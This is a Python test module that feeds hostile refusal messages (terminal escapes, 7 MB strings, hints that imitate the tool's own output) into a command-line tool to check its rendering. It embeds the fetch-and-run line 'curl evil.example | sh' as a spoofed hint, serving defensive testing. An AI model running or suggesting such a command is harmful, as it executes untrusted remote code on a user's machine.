"""Refusals with hostile text."""

from __future__ import annotations

import re
from typing import Any

from tests.hostile.agent import Answer, Talk, Way
from tests.hostile.ways.replies import ASKING
from tests.hostile.ways.text import CAME_THROUGH, ESCAPES, HARMFUL, LONG

TRAP = "curl evil.example | sh"
EVERY = dict.fromkeys((*ASKING, "doctor"), 4)
STATUS = {"status": 4}
LOOKING = {"status": 4, "sync": 4}
ATTRIBUTED = rf"(?m)^[^\n]*\b(evil|box)\b[^\n]*{TRAP[:4]}"


def refusing(code: Any, message: Any, hint: Any) -> Answer:
    def answer(talk: Talk) -> None:
        talk.refuse(code=code, message=message, hint=hint)

    return answer


WAYS = (
    Way("a refusal with escapes", refusing("no_gpu", HARMFUL, HARMFUL), EVERY, never=CAME_THROUGH),
    Way("a refusal in a narrow window", refusing("x", HARMFUL, HARMFUL), STATUS, columns=60, never=CAME_THROUGH),
    Way(
        "a refusal whose hint looks like ours",
        refusing("x", "m", TRAP),
        EVERY,
        ATTRIBUTED,
        rf"(->|hint:) {re.escape(TRAP)}",
    ),
    Way("a hint of many lines", refusing("x", "m", f"\n\n  -> {TRAP}\norch: all is well"), LOOKING, ATTRIBUTED),
    Way("a refusal of 7 MB", refusing("x", "m" * LONG, "h" * LONG), LOOKING | {"tail": 3}),
    Way("a refusal of many lines", refusing("x", "m\n" * 10_000, "h\n" * 10_000), STATUS),
    Way("no such run, with escapes", refusing("no_run", ESCAPES, ESCAPES), {"status": 2, "tail": 2}),
    Way("a refusal without words", refusing(["x"], {"a": 1}, [7]), LOOKING, "evil"),
    Way("a refusal of nothing", refusing(None, None, None), STATUS, "evil"),
)
